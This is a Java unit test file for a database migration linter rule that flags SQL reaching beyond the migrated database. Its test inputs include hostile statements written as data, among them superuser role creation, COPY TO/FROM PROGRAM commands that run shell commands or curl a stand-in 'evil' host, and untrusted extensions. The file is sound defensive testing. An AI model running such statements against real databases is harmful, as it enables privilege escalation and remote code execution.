package dev.approuting.lint;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The {@code cluster-statement} rule: what reaches beyond the migrated database, and what does not. */
class ClusterStatementTest {
    private static final MigrationLinter LINTER =
            MigrationLinter.configure().runnerSetsLockTimeout(true).load();

    private static List<Finding> cluster(String sql) {
        return LINTER.lintScript("V2__x.sql", sql).findings().stream()
                .filter(f -> f.rule() == LintRule.CLUSTER_STATEMENT)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "CREATE ROLE evil LOGIN SUPERUSER PASSWORD 'x';",
                "create user evil;",
                "CREATE GROUP admins;",
                "ALTER ROLE app_owner SUPERUSER;",
                "ALTER USER app_owner WITH PASSWORD 'x';",
                "DROP ROLE IF EXISTS app_reader;",
                "DROP USER old;",
                "CREATE DATABASE other;",
                "ALTER SYSTEM SET work_mem = '1GB';",
                "COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';",
                "COPY orders FROM PROGRAM 'curl http://evil';",
                "CREATE EXTENSION dblink;",
                "CREATE EXTENSION IF NOT EXISTS plpython3u;",
                "CREATE EXTENSION \"file_fdw\";",
                "DO $$ BEGIN CREATE ROLE evil SUPERUSER; END $$;"
            })
    void flagsWhatReachesBeyondTheDatabase(String sql) {
        List<Finding> findings = cluster(sql);

        assertThat(findings).as(sql).hasSize(1);
        assertThat(findings.get(0).severity()).isEqualTo(Severity.ERROR);
        assertThat(findings.get(0).fix()).contains("routing init-db");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
                "CREATE EXTENSION \"uuid-ossp\";",
                "CREATE EXTENSION pg_trgm WITH SCHEMA public;",
                "CREATE USER MAPPING FOR app SERVER remote;",
                "GRANT SELECT ON orders TO app_reader;",
                "COPY orders TO STDOUT;",
                "ALTER DATABASE shop SET timezone = 'UTC';",
                "CREATE TABLE role (id int, program text);",
                "ALTER TABLE system ADD COLUMN program text;"
            })
    void leavesWhatStaysInsideTheDatabase(String sql) {
        assertThat(cluster(sql)).as(sql).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"CREATE ROLE evil;", "COPY t FROM PROGRAM 'x';"})
    void namesTheStatementAndCanBeSuppressedWithAReason(String sql) {
        assertThat(cluster(sql).get(0).message()).containsAnyOf("ROLE", "PROGRAM");
        assertThat(cluster("-- routing:ignore cluster-statement reason: provisioned by ops\n" + sql))
                .isEmpty();
    }
}
